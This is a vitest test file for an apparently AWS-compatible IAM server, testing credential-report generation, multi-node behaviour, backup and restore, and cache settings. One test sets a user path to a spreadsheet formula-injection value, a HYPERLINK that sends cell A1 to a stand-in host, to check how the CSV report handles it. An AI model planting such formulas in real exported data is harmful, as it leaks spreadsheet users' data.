import { join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'
import { describe, expect, inject, it, onTestFinished } from 'vitest'
import { readCredentialReport } from '../packages/server/test/credential-report-reader.ts'
import { createDatabase } from '../packages/server/test/postgres-database.ts'
import { call, expectOk, type Credentials } from './caller.ts'
import { awsCliV1, type Client } from './clients.ts'
import {
  administratorOf,
  cleanEnvironment,
  initialise,
  keyward,
  Server,
  succeed,
  temporaryFolder,
  type Place,
} from './server.ts'

const engines = ['SQLite', 'PostgreSQL'] as const

async function placeOn(engine: (typeof engines)[number]): Promise<Place> {
  if (engine === 'SQLite') return initialise()
  const { url, drop } = await createDatabase(inject('postgresUrl'))
  onTestFinished(drop)
  return initialise({ database: url })
}

/** As scripts do it: ask until it is there, and take it. */
async function takeReport(client: Client, as: Credentials): Promise<string> {
  const states: unknown[] = []
  while (states.at(-1) !== 'COMPLETE') {
    if (states.length > 100) throw new Error(`there is no report: ${states.join()}`)
    if (states.length > 0) await pause(100)
    states.push((await client(as, 'iam', 'GenerateCredentialReport')).State)
  }
  expect(states[0]).toBe('STARTED')
  const { Content, ReportFormat, GeneratedTime } = await client(as, 'iam', 'GetCredentialReport')
  expect(ReportFormat).toBe('text/csv')
  expect(Math.abs(Date.parse(String(GeneratedTime)) - Date.now())).toBeLessThan(60_000)
  return Buffer.from(String(Content), 'base64').toString()
}

describe.each(engines)('of %s', (engine) => {
  const cli = awsCliV1()

  it.skipIf(cli.missing !== undefined)(
    'a credential report is taken by AWS CLI v1 as it takes AWS’s',
    { timeout: 90_000 },
    async () => {
      const place = await placeOn(engine)
      const server = await Server.start(place)
      const admin = administratorOf(place.account)
      const path = '/x,=HYPERLINK("http://e/?"&A1),/'
      await expectOk(call(server.url, admin, 'CreateUser', { UserName: 'Alice', Path: path }))
      const rows = readCredentialReport(await takeReport(cli.open(server.url), admin))
      expect(rows.map((row) => [row.get('user'), row.get('arn')?.split(':').at(-1)])).toEqual([
        ['<root_account>', 'root'],
        ['administrator', 'user/administrator'],
        ['Alice', expect.stringMatching(/Alice$/)],
      ])
      expect(rows[2]?.get('arn')).toBe(`arn:aws:iam::${place.account.accountId}:user${path}Alice`)
      // Its key has just asked for the report.
      expect(rows[1]?.get('access_key_1_last_used_service')).toBe('iam')
      expect((await server.stop()).code).toBe(0)
    },
  )
})

it('two nodes that are asked at once begin one report, and both answer its bytes', async () => {
  const place = await placeOn('PostgreSQL')
  const nodes = [await Server.start(place), await Server.start(place)]
  const admin = administratorOf(place.account)
  const ask = (action: string) => Promise.all(nodes.map(({ url }) => expectOk(call(url, admin, action))))
  const states = (await ask('GenerateCredentialReport')).map((answer) => answer.get('State'))
  expect(states.filter((state) => state === 'STARTED')).toHaveLength(1)
  for (let state: unknown; state !== 'COMPLETE'; await pause(50)) {
    state = (await ask('GenerateCredentialReport'))[1]?.get('State')
  }
  const [one, other] = (await ask('GetCredentialReport')).map((answer) => answer.get('Content'))
  expect(other).toBe(one)
})

it('a credential report goes with a backup, from one engine to the other and back', { timeout: 90_000 }, async () => {
  const place = await placeOn('PostgreSQL')
  const admin = administratorOf(place.account)
  const contentAt = async (flags: readonly string[]) => {
    const server = await Server.start({ flags }, ['--credential-report-cache', '4h'])
    while ((await expectOk(call(server.url, admin, 'GenerateCredentialReport'))).get('State') !== 'COMPLETE')
      await pause(50)
    const content = (await expectOk(call(server.url, admin, 'GetCredentialReport'))).get('Content')
    await server.stop()
    return content
  }
  const content = await contentAt(place.flags)
  const folder = temporaryFolder()
  const [first, second] = [join(folder, 'first.db'), join(folder, 'second.db')]
  await succeed(['backup', ...place.flags, first])
  const data = ['--data', join(folder, 'data'), '--master-key', place.masterKey]
  await succeed(['restore', ...data, first])
  expect(await contentAt(data)).toBe(content)
  await succeed(['backup', ...data, second])
  await succeed(['restore', ...place.flags, second])
  expect(await contentAt(place.flags)).toBe(content)
})

it('a credential report is fresh for as long as the server was told', async () => {
  const place = await placeOn('SQLite')
  const flag = '--credential-report-cache'
  for (const [given, told] of [
    ['0s', 'between 1s and 4h'],
    ['5h', 'between 1s and 4h'],
    ['60', 'look like 90s, 5m or 4h'],
  ] as const) {
    expect((await keyward(['serve', ...place.flags, flag, given])).stderr).toContain(told)
  }
  const env = cleanEnvironment({ KEYWARD_CREDENTIAL_REPORT_CACHE: '1s' })
  const server = await Server.start(place, [], { env })
  const admin = administratorOf(place.account)
  const state = async () => (await expectOk(call(server.url, admin, 'GenerateCredentialReport'))).get('State')
  const seen: unknown[] = [await state()]
  for (const began = Date.now(); Date.now() - began < 20_000 && seen.at(-1) !== 'STARTED again'; await pause(100)) {
    const now = await state()
    if (now !== seen.at(-1)) seen.push(now === 'STARTED' ? 'STARTED again' : now)
  }
  expect(seen.filter((one) => one !== 'INPROGRESS')).toEqual(['STARTED', 'COMPLETE', 'STARTED again'])
})
